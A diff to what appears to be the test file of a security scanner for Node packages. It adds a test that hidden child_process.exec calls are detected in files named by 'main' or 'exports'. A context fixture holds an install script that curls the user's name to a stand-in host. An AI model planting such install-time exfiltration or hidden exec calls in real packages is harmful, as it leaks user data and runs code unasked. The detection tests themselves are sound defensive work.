@@ -285,6 +285,29 @@ t.test('the handed-on reader decides, not the name of the file', t => {
   t.end()
 })
 
+t.test('what a field names is JavaScript to Node whatever its name, unless it is none', t => {
+  const pack = (main: string, text: string): Inspection =>
+    inspectPackage(
+      unpacked({
+        'package.json': JSON.stringify({
+          name: 'x',
+          version: '1.0.0',
+          main: `./${main}`,
+          exports: { '.': `./${main}` },
+        }),
+        [main]: text,
+      }),
+      { source: 'registry' },
+    )
+  const sheet = pack('index.css', 'body { color: red }\n/* note */\n.a::after { content: "x" }\n')
+  t.same([sheet.facts, sheet.gaps], [[], []])
+  const code = pack('data.txt', `require('node:child_process').exec('placeholder --now')`)
+  t.match(code.facts, [{ kind: 'starts', phase: 'import', commands: ['placeholder --now'] }])
+  const deep = pack('deep.txt', `${'['.repeat(5_000)}require('node:child_process')${']'.repeat(5_000)}`)
+  t.match(deep.gaps, [{ kind: 'content' }])
+  t.end()
+})
+
 t.test('an inspection is plain data and the same every time', t => {
   const files = {
     'package.json': manifest({ scripts: { install: 'node a.js; curl https://h.invalid/$USER' } }),
